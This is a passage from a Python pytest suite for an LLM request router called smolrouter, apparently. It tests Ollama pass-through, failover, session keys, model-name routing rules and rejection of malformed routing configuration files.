        {
            "name": "llama3:latest",
            "model": "llama3:latest",
            "size": 42,
            "digest": "abc",
            "modified_at": "2026-01-02T03:04:05Z",
            "details": {"family": "llama"},
        }
    ]
}
NATIVE_SHOW = {
    "details": {"family": "llama"},
    "model_info": {"llama.layers": 7},
    "template": "{{ .Prompt }}",
    "capabilities": ["completion", "insert"],
}
NATIVE_DOCUMENTS = {
    "/api/tags": NATIVE_TAGS,
    "/api/show": NATIVE_SHOW,
    "/api/ps": {"models": [{"name": "llama3:latest", "model": "llama3:latest"}]},
    "/api/embed": {"model": "llama3", "embeddings": [VECTOR], "prompt_eval_count": 3},
    "/api/embeddings": {"embedding": VECTOR},
    "/v1/models": {"object": "list", "data": [model_entry("llama3:latest")]},
}
PROGRESS = [
    {"status": "pulling manifest"},
    {"status": "pulling", "digest": "sha256:1", "total": 9, "completed": 3},
    {"status": "success"},
]


def ollama_server(received: Received) -> Iterable[Step]:
    """Answer as an Ollama server does."""
    document = received.json if isinstance(received.json, dict) else {}
    streamed = document.get("stream", True)
    if received.model == "broken":
        return json_response({"error": "own trouble"}, 500)
    if received.path in ("/api/chat", "/api/generate"):
        if streamed:
            return stream_response(NATIVE_LINES, kind="application/x-ndjson")
        return whole_response(NATIVE_WHOLE, kind="application/json")
    if received.path in ("/api/pull", "/api/push", "/api/create"):
        lines = [encode_json(p) + b"\n" for p in PROGRESS]
        if streamed:
            return stream_response(lines, kind="application/x-ndjson")
        return json_response(PROGRESS[-1])
    if received.path in ("/api/copy", "/api/delete"):
        return whole_response(b"")
    if received.path.startswith(("/api/status", "/api/me", "/api/experimental/")):
        steps = json_response({"fine": True})
        return head_only(steps) if received.method == "HEAD" else steps
    if received.path.startswith("/api/blobs/"):
        return whole_response(b"", 201 if received.method == "POST" else 200)
    if received.path in NATIVE_DOCUMENTS:
        return json_response(NATIVE_DOCUMENTS[received.path])
    return well_behaved(received)


@functools.cache
def gpu() -> Upstream:
    """Return the upstream that speaks Ollama."""
    return Upstream(ollama_server)


def native() -> Router:
    """Return a router with an Ollama server, an OpenAI server and one that is switched off."""
    servers = {
        "gpu": {"url": gpu().url, "api": "ollama"},
        "bench": sdk_upstream().url,
        "dead": {"url": switched_off_url("dead"), "api": "ollama"},
    }
    aliases = {
        "alias-llama3": {"instances": ["dead/llama3", "gpu/llama3"]},
        "mixed": {"instances": ["gpu/broken", "bench/talk"]},
    }
    routes = [
        {"match": {"model": "/^rule-(.+)$/"}, "route": {"upstream": "gpu", "model": r"\1"}},
        {"match": {"model": "/^(llama3|broken)/"}, "route": {"upstream": "gpu"}},
    ]
    settings = {
        "DEFAULT_UPSTREAM": sdk_upstream().url,
        "MODEL_MAP": json.dumps({"/^map-(.+)$/": r"\1"}),
    }
    table = {"servers": servers, "aliases": aliases, "routes": routes}
    return shared_router(settings, table)


NATIVE_BODY = (
    b' { "messages":[{"role":"user","content":"\\u0068i"}] , "model" : "%s",\n'
    b'"stream":%s,'
    b'"options":{"num_ctx":8192,"temperature":1.0,"seed":123456789012345678901},'
    b'"keep_alive":"30m","unknown":[1e3] }\n'
)
NATIVE_NAMES = ("llama3", "rule-llama3", "alias-llama3", "map-llama3")


@pytest.mark.parametrize("asked", NATIVE_NAMES)
@pytest.mark.parametrize("path", ("/api/chat", "/api/generate"))
@whole_or_lines
def test_native_request_goes_as_it_is(path: str, asked: str, stream: bool) -> None:
    flag = b"true" if stream else b"false"
    got = post_json(path, NATIVE_BODY % (asked.encode(), flag), native())
    assert got.status == 200
    heard = last_request(gpu())
    assert heard.path == path
    assert heard.content == NATIVE_BODY % (b"llama3", flag)
    if asked == "llama3":
        assert got.content == (b"".join(NATIVE_LINES) if stream else NATIVE_WHOLE)
    parts = got.documents if stream else [got.json]
    words = "na=tive words" if stream else "native words"
    assert "".join(p["message"]["content"] for p in parts) == words
    assert {p["model"] for p in parts} == {asked}
    assert parts[-1]["eval_count"] == 12


def test_native_thinking_is_stripped_too() -> None:
    said = [
        {"message": {"role": "assistant", "content": c}, "done": False}
        for c in ("<thi", "nk>Hm.</th", "ink>\n\nna=tive ")
    ]
    lines = [encode_json({"model": "llama3-x", **line}) + b"\n" for line in said]
    gpu().scripts["llama3-x"] = lambda received: stream_response(
        [*lines, NATIVE_LINES[1].replace(b"llama3", b"llama3-x"), NATIVE_LINES[2]],
        kind="application/x-ndjson",
    )
    assert post_json("/api/chat", chat_document("llama3-x"), native()).text == "na=tive words"


def test_native_stream_that_breaks() -> None:
    opening, *lines = stream_response(NATIVE_LINES[:2], kind="application/x-ndjson")
    steps: list[Step] = [b"".join((opening, *lines[:2])), 0.2, DROP]  # type: ignore
    gpu().scripts["llama3-y"] = lambda received: steps
    got = post_json("/api/chat", chat_document("llama3-y"), native())
    assert b"".join(NATIVE_LINES[:2]) == got.content[: -len(got.events[-1]) - 1]
    assert set(got.documents[-1]) == {"error"}


@each_ollama
@whole_or_lines
def test_native_chat_by_the_official_client(sdk: Sdk, stream: bool) -> None:
    got = sdk.call(
        native().url,
        "chat",
        model="llama3",
        messages=HELLO_MESSAGES,
        stream=stream,
        options={"num_ctx": 4096},
        keep_alive=-1,
        think=True,
    )
    parts = got if stream else [got]
    assert parts[-1].eval_count == 12
    heard = last_request(gpu())
    assert heard.path == "/api/chat"
    assert heard.json["options"] == {"num_ctx": 4096}
    assert (heard.json["keep_alive"], heard.json["think"]) == (-1, True)


@each_ollama
def test_native_embeddings(sdk: Sdk) -> None:
    got = sdk.call(native().url, "embed", model="llama3", input="a", truncate=False)
    assert [list(v) for v in got.embeddings] == [VECTOR]
    assert last_request(gpu()).path == "/api/embed"
    assert last_request(gpu()).json["truncate"] is False
    old = sdk.call(native().url, "embeddings", model="llama3", prompt="a")
    assert list(old.embedding) == VECTOR
    assert last_request(gpu()).path == "/api/embeddings"


@each_ollama
def test_native_list_and_show(sdk: Sdk) -> None:
    models = {m.model: m for m in sdk.call(native().url, "list").models}
    assert {"llama3:latest"} <= set(models)
    got = sdk.call(native().url, "show", "llama3")
    assert got.template == NATIVE_SHOW["template"]
    assert got.capabilities == NATIVE_SHOW["capabilities"]


@each_ollama
@whole_or_lines
def test_native_server_fails_over_to_another_kind(sdk: Sdk, stream: bool) -> None:
    got = sdk.call(native().url, "chat", model="mixed", messages=HELLO_MESSAGES, stream=stream)
    parts = got if stream else [got]
    assert "".join(p.message.content or "" for p in parts) == HELLO_ANSWER
    check_ollama(parts, "mixed")
    assert last_request().path == "/v1/chat/completions"


@each_ollama
def test_native_error_passes_through(sdk: Sdk) -> None:
    with pytest.raises(import_or_skip("ollama").ResponseError) as caught:
        sdk.call(native().url, "chat", model="broken", messages=HELLO_MESSAGES)
    assert (caught.value.status_code, caught.value.error) == (500, "own trouble")


@each_ollama
@pytest.mark.parametrize("method", ("pull", "push", "create"))
@whole_or_lines
def test_native_management_with_progress(sdk: Sdk, method: str, stream: bool) -> None:
    more: Any = {"from_": "llama3"} if method == "create" else {}
    got = sdk.call(native().url, method, model="mine", stream=stream, **more)
    parts = got if stream else [got]
    expected = PROGRESS if stream else PROGRESS[-1:]
    assert [p.model_dump(exclude_none=True) for p in parts] == expected
    assert last_request(gpu()).path == f"/api/{method}"
    assert last_request(gpu()).model == "mine"


@each_ollama
def test_native_copy_delete_and_blobs(sdk: Sdk, tmp_path: Any) -> None:
    url = native().url
    assert sdk.call(url, "copy", "llama3", "mine").status == "success"
    assert last_request(gpu()).json == {"source": "llama3", "destination": "mine"}
    assert sdk.call(url, "delete", "mine").status == "success"
    assert last_request(gpu(), "DELETE").json["model"] == "mine"
    (tmp_path / "weights").write_bytes(SOUND)
    digest = sdk.call(url, "create_blob", tmp_path / "weights")
    assert digest == f"sha256:{hashlib.sha256(SOUND).hexdigest()}"
    assert last_request(gpu()).path == f"/api/blobs/{digest}"
    assert last_request(gpu()).content == SOUND


@pytest.mark.parametrize("method, path, body", MANAGEMENT)
def test_native_management_to_the_byte(method: str, path: str, body: Any) -> None:
    content = json.dumps(body).encode() if isinstance(body, dict) else body
    got = request(native().port, method, path, content)
    heard = last_request(gpu(), method)
    assert got.status == (201 if "blobs" in path and method == "POST" else 200)
    assert (heard.target, heard.content) == (path, content or b"")


# ======================================================================================
# 9  Routing
# ======================================================================================
# Which instances a request goes to, and why: a case of DECISIONS says it for one request. A new
# key of the routing file gets a case in BAD_TABLES for each way to get it wrong.

# --- conversations --------------------------------------------------------------------

SESSION_TURNS = [
    {"role": "system", "content": "Be brief." + 3000 * " " + "It is 8 o'clock."},
    {"role": "user", "content": [{"type": "text", "text": "Hi"}]},
    {"role": "assistant", "content": "Hello"},
    {"role": "user", "content": "Bye"},
]
SESSION_DOCUMENT = {"model": "m", "tools": [{"name": "f"}], "messages": SESSION_TURNS}


def session_key(changes: Mapping[str, Any], path: str = CHAT) -> str:
    """Return the session key of a request like SESSION_DOCUMENT, with these changes."""
    return smolrouter.read_session_key(smolrouter.Fields([]), path, {**SESSION_DOCUMENT, **changes})


def test_session_keys() -> None:
    key = session_key({})
    assert re.fullmatch("[0-9a-f]{12}", key)
    later = [{**SESSION_TURNS[0], "content": "Be brief." + 3000 * " " + "9"}, *SESSION_TURNS[1:]]
    for same in (SESSION_TURNS[:2], later, [*SESSION_TURNS, {"role": "odd", "content": 5}]):
        assert session_key({"messages": same}) == key
    assert session_key({"temperature": 1, "stream": True}) == key
    other_user = [SESSION_TURNS[0], {"role": "user", "content": "Hello"}]
    others = [
        session_key({"model": "n"}),
        session_key({"tools": []}),
        session_key({"messages": SESSION_TURNS[1:]}),
        session_key({"messages": other_user}),
        session_key({"messages": [1e999, "x", {"role": "user", "content": "\ud800"}]}),
        session_key({"prompt": "Hello there"}, "/v1/completions"),
        session_key({"input": "Hello"}, RESPONSES),
        session_key({"system": "Be brief."}, ANTHROPIC),
    ]
    assert len({key, *others}) == len(others) + 1
    assert all(re.fullmatch("[0-9a-f]{12}", other) for other in others)


def test_session_keys_that_clients_give() -> None:
    def key_of(changes: Mapping[str, Any] = {}, **fields: str) -> str:
        lines = [(name.replace("__", "-"), name, value) for name, value in fields.items()]
        return smolrouter.read_session_key(
            smolrouter.Fields(lines), "/v1/embeddings", {"input": "Hi", **changes}
        )

    # Nothing is said of a conversation where there is none.
    assert key_of() == ""
    assert key_of({"prompt_cache_key": 5}) == key_of({"prompt_cache_key": ""}) == ""
    assert key_of({"prompt_cache_key": "p"}) == "p"
    assert key_of({"prompt_cache_key": "p"}, x__openwebui__chat__id="o") == "o"
    assert key_of(session_id="codex", x__openwebui__chat__id="o") == "codex"
    assert key_of(x__claude__code__session__id=" c ", session_id="s") == "c"
    assert key_of(x__claude__code__session__id="c", x__session__id="x") == "x"
    assert key_of(x__session__id="") == ""
    assert len(key_of(x__session__id="x" * 9000)) == smolrouter.LIMITS.shown_name


# --- which way a request goes ---------------------------------------------------------

ROUTING_TABLE = """
{"servers": {"one": "http://one:1", "two": {"url": "http://two:2/v1", "api": "ollama"}},
 "aliases": {"pair": {"instances": ["one/a", {"server": "two", "model": "b"}]},
             "turns": {"strategy": "round_robin", "instances": ["one/a/b"]}},
 "routes": [
  {"match": {"model": "/^(.*)-1.5b$/"}, "route": {"upstream": "one", "model": "\\\\1-tiny"}},
  {"match": {"source_host": ["10.0.1.0/24", "10.0.2.5-10.0.2.9"], "model": "gpt-4"},
   "route": {"upstream": "two", "model": "claude"}},
  {"match": {"source_host": "fd00::/8"}, "route": {"alias": "pair"}},
  {"match": {"model": "old"}, "route": {"model": "new"}}]}
"""
HOME = "127.0.0.1"
DECISIONS = [
    # asked, source host, route, what is sent where
    ("pair", HOME, "alias pair", ["one/a", "two/b"]),
    ("mapped-pair", HOME, "alias pair", ["one/a", "two/b"]),
    ("turns", HOME, "alias turns", ["one/a/b"]),
    ("qwen-1.5b", HOME, "routes[0]", ["one/qwen-tiny"]),
    ("gpt-4", "10.0.1.77", "routes[1]", ["two/claude"]),
    ("gpt-4", "::ffff:10.0.2.5", "routes[1]", ["two/claude"]),
    ("gpt-4", "10.0.2.10", "default", ["default/gpt-4"]),
    ("any", "fd00::7", "routes[2]", ["one/a", "two/b"]),
    ("old", HOME, "routes[3]", ["default/new"]),
    ("gpt-3", HOME, "default", ["default/llama"]),
    ("gpt-9-x", HOME, "default", ["default/lab-x"]),
    ("m [two]", HOME, "pin two", ["two/m"]),
    ("m [nobody]", HOME, "default", ["default/m [nobody]"]),
    ("x" * 300 + "-1.5b", HOME, "default", ["default/" + "x" * 300 + "-1.5b"]),
]


def routing(text: str = ROUTING_TABLE, **settings: str) -> Any:
    """Parse a routing file beside a MODEL_MAP and these settings."""
    mapping = '{"/gpt-9-(.*)/": "lab-\\\\1", "gpt-3": "llama", "mapped-pair": "pair"}'
    chosen = smolrouter.Settings.from_mapping({"MODEL_MAP": mapping, **settings})
    return smolrouter.parse_routes(text, "routes.yaml", {"KEY": "k"}, chosen)


@pytest.mark.parametrize("asked, host, route, instances", DECISIONS)
def test_decision(asked: str, host: str, route: str, instances: list[str]) -> None:
    decision = smolrouter.resolve(routing(), asked, host)
    assert decision.route == route
    assert [str(instance) for instance in decision.instances] == instances
    assert decision.trail and decision.trail[-1].matched


def route(match: Any, target: Any) -> str:
    """Return a routing file of one route."""
    return json.dumps({"routes": [{"match": match, "route": target}]})


X = {"model": "x"}
HOP = '{"servers": {"a": {"url": "http://a", "headers": {"Content-Length": "1"}}}}'
BAD_TABLES = {
    "framing field": (HOP, "servers.a.headers.Content-Length"),
    "unknown key": ('{"servers": {}, "extra": 1}', "extra"),
    "not a mapping": ("[]", "the file"),
    "bad regex": (route({"model": "/(/"}, X), "routes[0].match.model"),
    "flags behind a pattern": (route({"model": "/^GPT/i"}, X), "write '/(?i)^GPT/'"),
    "bad group": (route({"model": "/a/"}, {"model": "\\1"}), "routes[0].route.model"),
    "empty alias": ('{"aliases": {"a": {"instances": []}}}', "aliases.a.instances"),
    "revoked text": ('{"revoked": "3f2a"}', "revoked: not a list; write the `jti`"),
    "revoked number": ('{"revoked": ["a", 7]}', "revoked[1]: 7 instead of a text"),
    "revoked nothing": ('{"revoked": {"3f2a": null}}', "revoked: not a list"),
    "unknown server": ('{"aliases": {"a": {"instances": ["nobody/m"]}}}', "nobody"),
    "unknown alias": (route({}, {"alias": "x"}), "routes[0].route.alias"),
    "bad strategy": ('{"aliases": {"a": {"strategy": "luck", "instances": ["b/c"]}}}', "luck"),
    "bad address": (route({"source_host": "10.0.0.256"}, X), "source_host"),
    "backward range": (route({"source_host": "10.0.0.9-10.0.0.1"}, X), "source_host"),
    "empty route": (route({}, {}), "routes[0].route"),
    "unset variable": ('{"servers": {"a": "http://${NOBODY}"}}', "NOBODY"),
    "duplicate": ('{"servers": {"a": "http://a", "a": "http://b"}}', "twice"),
    "bad URL": ('{"servers": {"a": "ftp://a"}}', "servers.a.url"),
    "endpoint": ('{"servers": {"a": "http://a/x/v1/embeddings/"}}', "leave that out"),
    "bad api": ('{"servers": {"a": {"url": "http://a", "api": "x"}}}', "servers.a.api"),
    "number for text": (route({"model": 7}, X), "routes[0].match.model"),
    "no model": (
        '{"aliases": {"a": {"instances": [{"url": "http://a", "model": 0}]}}}',
        "aliases.a.instances[0].model",
    ),
    "no models": ('{"servers": {"a": {"url": "http://a", "models": []}}}', "servers.a.models"),
    "no name": ('{"servers": {"a": {"url": "http://a", "models": [7]}}}', "servers.a.models[0]"),
    "models of an undiscovered server": (
        '{"servers": {"a": {"url": "http://a", "models": ["m"], "discover": false}}}',
        "servers.a.models",
    ),
    "bad discover": ('{"servers": {"a": {"url": "http://a", "discover": "no"}}}', "discover"),
    "broken JSON": ('{"servers": ', "JSON"),
    "bad thinking": ('{"servers": {"a": {"url": "http://a", "thinking": "off"}}}', "strip, move"),
    "two of thinking": (
        '{"aliases": {"a": {"instances": [{"url": "http://a"}], "thinking": ["keep", "move"]}}}',
        "aliases.a.thinking",
    ),
    "no slots": ('{"servers": {"a": {"url": "http://a", "slots": 0}}}', "servers.a.slots: 0"),
    "slots in words": ('{"servers": {"a": {"url": "http://a", "slots": "4"}}}', "from 1 to 100000"),
    "true slots": ('{"servers": {"a": {"url": "http://a", "slots": true}}}', "True instead"),
    "slots twice": (
        '{"servers": {"a": {"url": "http://a", "max_concurrent": 2, "slots": 2}}}',
        "servers.a.max_concurrent: `slots` says it already",
    ),
    "no MAC": ('{"servers": {"a": {"url": "http://a", "wake": "b4:2e"}}}', "as b4:2e:99:01:02:03"),
    "a number as a MAC": (
        '{"servers": {"a": {"url": "http://a", "wake": {"mac": 7}}}}',
        "servers.a.wake.mac: 7 instead of a text; put it in quotes",
    ),
    "a name to wake": (
        '{"servers": {"a": {"url": "http://a", "wake": {"mac": "b42e99010203", "address": "x"}}}}',
        "servers.a.wake.address: 'x' is no address; write the network's broadcast address",
    ),
    "never awake": (
        '{"servers": {"a": {"url": "http://a", "wake": {"mac": "b42e99010203", "timeout": 0}}}}',
        "servers.a.wake.timeout: 0 instead of a number from 1 to 3600",
    ),
    "no port to wake": (
        '{"servers": {"a": {"url": "http://a", "wake": {"mac": "b42e99010203", "port": "9"}}}}',
        "servers.a.wake.port: '9' instead of a whole number from 1 to 65535",
    ),
    "bad priority": (
        '{"aliases": {"a": {"instances": [{"url": "http://a"}], "priority": "urgent"}}}',
        "'urgent' instead of high or normal or low",
    ),
    "priority in figures": (route({}, {**X, "priority": 1}), "routes[0].route.priority"),
    "no list of thinking": (route({}, {**X, "thinking": []}), "routes[0].route.thinking"),
}


@pytest.mark.parametrize("text, named", BAD_TABLES.values(), ids=BAD_TABLES.keys())
def test_bad_table_is_refused_with_its_place(text: str, named: str) -> None:
    with pytest.raises(smolrouter.ConfigError) as caught:
        routing(text)
    assert named in str(caught.value) and "routes.yaml" in str(caught.value)
    assert "\n" not in str(caught.value)


def test_slots_and_priorities_are_read() -> None:
    table = routing(
        json.dumps(
            {
                "servers": {
                    "a": {"url": "http://a", "slots": 4},
                    "b": {"url": "http://b", "concurrencyLimit": 2},
                    "c": {"url": "http://c", "max_concurrent": 1},
                    "d": "http://d",
                },
                "aliases": {
                    "quick": {"instances": ["a/m"], "priority": "high"},
                    "usual": {"instances": ["a/m"]},
                },
                "routes": [
                    {
                        "match": {"source_host": "10.0.0.1"},
                        "route": {"alias": "quick", "priority": "low"},
                    },
                    {"match": {"model": "x"}, "route": {"model": "quick"}},
                    {"match": {"model": "y"}, "route": {"upstream": "a", "priority": "low"}},
                    {"match": {"model": "z"}, "route": {"model": "usual", "priority": "high"}},
                ],
            }
        )
    )
    assert [server.slots for server in table.servers.values()] == [4, 2, 1, None]
    asked = {
        ("quick", HOME): "high",
        ("usual", HOME): "normal",
        # A route for somebody wins over the alias that it leads to.
        ("other", "10.0.0.1"): "low",
        ("x", HOME): "high",
        ("y", HOME): "low",
        ("z", HOME): "high",
        ("unknown", HOME): "normal",
    }
    got = {key: smolrouter.resolve(table, *key).priority for key in asked}
    assert got == asked


def test_yaml_in_flow_style_and_marks() -> None:
    assert routing('\ufeff{"servers": {"a": "http://a"}}').servers
    assert not routing(" \n").servers
    pytest.importorskip("yaml")
    assert routing("{servers: {a: 'http://a:1'}}").servers


def test_long_names_stall_no_pattern() -> None:
    table_ = routing(route({"model": "/.*-1.5b/"}, {"upstream": "http://x"}))
    for name in ("a" * 200_000, "-1.5" * 50_000, "a" * 200_000 + "-1.5b"):
        assert smolrouter.resolve(table_, name, "10.0.0.1").route == "default"


def test_decisions_of_a_long_table_fill_no_memory() -> None:
    """A thousand rules, and clients that choose the names of models."""
    rules = [
        {"match": {"model": f"/^{n}$/"}, "route": {"upstream": "http://x"}} for n in range(999)
    ]
    table = routing(json.dumps({"routes": rules}))
    first, *others = [smolrouter.decide(table, f"model-{n}", HOME) for n in range(300)]
    for decision in others:
        # All but the last step, which is the same for all as well, but for its making. The one
        # before it says that no server lists the model.
        assert all(a is b for a, b in zip(first.trail[:-1], decision.trail, strict=False))
    assert smolrouter.decide(table, "model-299", HOME) is others[-1]
    assert smolrouter.decide(table, "model-0", HOME) is not first
    long = "x" * 257
    assert smolrouter.decide(table, long, HOME) is not smolrouter.decide(table, long, HOME)


def test_length_of_a_name_is_no_reason_for_an_exact_rule() -> None:
    """It is compared, however long it is."""
    rules = [
        {"match": {"model": model}, "route": {"upstream": "http://x"}}
        for model in ("gpt-4", "/gpt/", "x" * 300)
    ]
    trail = smolrouter.resolve(routing(json.dumps({"routes": rules})), "x" * 300, HOME).trail
    assert [step.matched for step in trail] == [False, False, True]
    assert ["longer than" in step.why for step in trail] == [False, True, False]


def test_url_of_a_named_server_is_that_server() -> None:
    """It gets the key and the fields of that server, wherever it is spelled out."""
    table = routing(
        json.dumps(
            {
                "servers": {"a": {"url": "http://h:1", "api_key": "k", "headers": {"x-a": "b"}}},
                "aliases": {"fast": {"instances": [{"url": "http://h:1/v1/", "model": "m"}]}},
                "routes": [{"match": {"model": "r"}, "route": {"upstream": "http://h:1"}}],
            }
        )
    )
    for model in ("fast", "r"):
        (instance,) = smolrouter.resolve(table, model, HOME).instances
        # What it speaks is not known yet, so it is taken for OpenAI's.
        assert instance.server == dataclasses.replace(table.servers["a"], api="openai")


def test_trails_keep_no_long_names() -> None:
    """The log remembers the JSON of trails."""
    decision = smolrouter.resolve(routing(), "x" * 16_000 + ":latest", HOME)
    assert ":latest" in {step.rule for step in decision.trail}
    assert all(len(step.why) < 400 for step in decision.trail)
    before = smolrouter.encode_repeated.cache_info().currsize
    long_trail = (smolrouter.Step("a rule", False, "why not"),) * 1000
    assert json.loads(smolrouter.encode_trail(long_trail)) == [["a rule", False, "why not"]] * 1000
    assert smolrouter.encode_repeated.cache_info().currsize == before


def test_two_servers_may_have_one_url() -> None:
    text = '{"servers": {"a": "http://h:1", "b": {"url": "http://h:1", "api_key": "k"}}}'
    names = [server.name for server in routing(text).all_servers()]
    assert {"a", "b"} <= set(names)
    assert smolrouter.resolve(routing(text), "m [b]", HOME).route == "pin b"


SERVERS_OF_ODD_NAMES = {
    "a box [old]": "http://odd:1",
    "[x]": "http://odd:2",
    "default": "http://odd:3",
    "same:4": "http://odd:5",
}
URLS_WITHOUT_NAMES = ("http://[::1]:8000", "http://same:4", "http://tls", "https://tls")


def test_every_listed_name_pins_its_server() -> None:
    """What the list of models shows in brackets is found again, whatever its server's name."""
    routes = [
        {"match": {"model": f"r{number}"}, "route": {"upstream": url}}
        for number, url in enumerate(URLS_WITHOUT_NAMES)
    ]
    text = json.dumps({"servers": SERVERS_OF_ODD_NAMES, "routes": routes})
    table = routing(text, DEFAULT_UPSTREAM="http://built-in:7")
    servers = table.all_servers()
    assert {str(server.url) for server in servers} >= {*SERVERS_OF_ODD_NAMES.values()}
    assert len(servers) == len(SERVERS_OF_ODD_NAMES) + len(URLS_WITHOUT_NAMES) + 1
    model = {"id": "org/m [beta]"}
    listed = smolrouter.merge_models((), [(server, [model]) for server in servers])
    reached = {}
    for name in [entry["id"] for entry in listed][1:]:
        (instance,) = smolrouter.resolve(table, name, HOME).instances
        assert instance.model == model["id"]
        reached[name] = instance.server
    assert {server.name for server in reached.values()} == {server.name for server in servers}


def test_request_without_a_model_follows_rules_on_its_source() -> None:
    decision = smolrouter.resolve(routing(), "", "fd00::7")
    assert decision.route == "routes[2]"
    assert not any("longer" in step.why for step in decision.trail)
    assert smolrouter.resolve(routing(), "", HOME).route == "default"


def test_yaml_says_the_line() -> None:
    pytest.importorskip("yaml")
    text = "servers:\n  a: http://a\nroutes:\n  - match: {}\n    route: {upstrem: a}\n"
    with pytest.raises(smolrouter.ConfigError, match=r"routes\.yaml:5: routes\[0\]"):
        routing(text)
    with pytest.raises(smolrouter.ConfigError, match=r"routes\.yaml:3: .*twice"):
        routing("servers:\n  a: http://a\n  a: http://b\n")


TAGGED_TABLE = """
{"servers": {"box": "http://box:1", "gpu": {"url": "http://gpu:2", "api": "ollama"}},
 "aliases": {"coder:latest": {"instances": ["box/a"]}, "plain": {"instances": ["box/b:latest"]}},
 "routes": [
  {"match": {"model": "/-v1:latest$/"}, "route": {"upstream": "gpu"}},
  {"match": {"model": "named"}, "route": {"upstream": "box", "model": "c"}},
  {"match": {"model": "/^cut-(.*)$/"}, "route": {"upstream": "gpu", "model": "\\\\1"}}]}
"""
TAGGED_MAP = '{"mine": "p", "mine:latest": "q", "short": "plain", "/^gpt/": "r", "gpt-4": "s"}'
# What is asked for, the route, what is sent where. The name as asked goes first.
TAGGED_DECISIONS = [
    ("coder:latest", "alias coder:latest", "box/a"),
    ("coder", "default", "default/coder"),
    ("plain:latest", "alias plain", "box/b:latest"),
    ("short:latest", "alias plain", "box/b:latest"),
    ("x-v1:latest", "routes[0]", "gpu/x-v1:latest"),
    ("x-v1", "default", "default/x-v1"),
    ("named:latest", "routes[1]", "box/c"),
    ("cut-x:latest", "routes[2]", "gpu/x:latest"),
    ("mine:latest", "default", "default/q"),
    ("mine", "default", "default/p"),
    ("gpt-4:latest", "default", "default/s"),
    ("gpt-5:latest", "default", "default/r"),
    ("m:latest [gpu]", "pin gpu", "gpu/m:latest"),
    ("m [gpu]:latest", "pin gpu", "gpu/m"),
    (":latest", "default", "default/:latest"),
]


@pytest.mark.parametrize("asked, route, instance", TAGGED_DECISIONS)
def test_decision_with_the_tag_latest(asked: str, route: str, instance: str) -> None:
    decision = smolrouter.resolve(routing(TAGGED_TABLE, MODEL_MAP=TAGGED_MAP), asked, HOME)
    assert (decision.route, *map(str, decision.instances)) == (route, instance)
    assert decision.trail[-1].matched


def tagged_router() -> Router:
    """Return a router whose OpenAI server lists one name with `:latest`, and its Ollama server."""
    servers = {"box": tagged_box().url, "gpu": {"url": gpu().url, "api": "ollama"}}
    table = {**json.loads(TAGGED_TABLE), "servers": servers}
    return shared_router({"DEFAULT_UPSTREAM": tagged_box().url, "MODEL_MAP": TAGGED_MAP}, table)


@functools.cache
def tagged_box() -> Upstream:
    """Return the OpenAI server of `tagged_router()`."""
    return Upstream(models=["bare", "listed:latest", "b:latest"])


@pytest.mark.parametrize("path", ("/api/chat", "/api/generate", "/api/embed", CHAT))
@pytest.mark.parametrize(
    "asked, sent",
    (
        ("coder:latest", "a"),
        ("plain:latest", "b:latest"),
        ("mine:latest", "q"),
        ("bare:latest", "bare"),
        ("listed:latest", "listed:latest"),
        ("listed", "listed:latest"),
    ),
)
def test_the_tag_latest_reaches_who_knows_it(asked: str, sent: str, path: str) -> None:
    """An Ollama client adds the tag to any name."""
    got = request(tagged_router().port, "POST", path, {**EXAMPLE_REQUESTS[path], "model": asked})
    assert got.status == 200
    assert last_request(tagged_box()).model == sent
    row = wait_for_row(tagged_router(), asked)
    assert row["original_model"] == asked


@pytest.mark.parametrize("asked", [case[0] for case in TAGGED_DECISIONS])
def test_explain_and_the_live_path_agree_on_the_tag_latest(asked: str) -> None:
    """Without a translation to another dialect they say the same to the letter."""
    query = urllib.parse.urlencode({"model": asked})
    shown = request(tagged_router().port, "GET", f"/api/routes?{query}").json["decision"]
    got = post_chat(tagged_router(), asked)
    assert got.get("X-SmolRouter-Route") == shown["route"]
    assert got.get("X-SmolRouter-Model") == shown["instances"][0]["model"]


def test_the_tag_latest_makes_no_model_unknown() -> None:
    for name in ("bare", "bare:latest", "listed", "listed:latest"):
        assert request(tagged_router().port, "POST", "/api/show", {"model": name}).status == 200
        assert request(tagged_router().port, "GET", f"/v1/models/{name}").status == 200
    assert request(tagged_router().port, "POST", "/api/show", {"model": "no:latest"}).status == 404
    assert request(tagged_router().port, "GET", "/v1/models/no").status == 404


# --- servers without a routing file ---------------------------------------------------


def test_servers_and_their_pins() -> None:
    one, two = Upstream(models=["one", "twin"]), Upstream(models=["two", "twin"])
    with one, two, Router({"SERVERS": f"{one.url}/v1, two={two.url}"}) as router:
        assert f"twin [{one.authority}]" in model_names(router)
        for name, upstream in ((one.authority, one), ("two", two)):
            assert post_chat(router, f"twin [{name}]").status == 200
            assert last_request(upstream).model == "twin"
        assert post_chat(router, "anything").get("X-SmolRouter-Upstream") == one.url


def test_a_model_that_nothing_claims_is_refused_with_the_nearest_names() -> None:
    aliases = {"llama3-mine": {"instances": ["a/llama3"]}}
    with Upstream(models=["llama3"]) as upstream:
        routes = {"servers": {"a": upstream.url}, "aliases": aliases}
        with Router({"DEFAULT_UPSTREAM": "none"}, routes) as router:
            for path in (CHAT, "/v1/embeddings", "/api/chat", "/api/generate", "/api/embed"):
                body = {**EXAMPLE_REQUESTS[path], "model": "lama3-mine"}
                got = request(router.port, "POST", path, body)
                assert (
                    got.status == 404
                    and b"'lama3-mine'; the nearest are llama3-mine" in got.content
                )
                check_error(path, got)
            # To load a model, and what names none.
            got = request(router.port, "POST", "/api/chat", {"model": "no", "messages": []})
            assert (got.status, got.json["error"][:19]) == (404, "no such model 'no';")
            got = request(router.port, "GET", "/v1/files")
            assert got.status == 404 and b"DEFAULT_UPSTREAM is none" in got.content
            got = request(router.port, "POST", CHAT, {"messages": []})
            assert got.status == 400 and b"no model was named" in got.content
            assert request(router.port, "GET", "/v1/models/lama3").status == 404
            assert post_chat(router, "llama3-mine").status == 200
            row = wait_for_row(router, "lama3-mine")
            assert (row["status_code"], row["attempts"]) == (404, [])
            found = get_document(router, "/api/routes?model=lama3")
            assert (found["default"], found["decision"]["instances"]) == (None, [])
    done = run_program("check", settings={"DEFAULT_UPSTREAM": "NONE", "SERVERS": "a=http://a"})
    assert (done.returncode, "the rest is refused" in done.stdout) == (0, True)


# --- models that servers list ---------------------------------------------------------

LISTING_TABLE = """
{"servers": {"a": "http://a", "b": "http://b", "c": {"url": "http://c", "models": ["Fixed", "q4"]},
             "d": {"url": "http://d", "discover": false}, "e": "http://e"},
 "aliases": {"both": {"instances": ["a/aliased", {"url": "http://f", "model": "m"}]}},
 "routes": [
  {"match": {"model": "old"}, "route": {"model": "only-b"}},
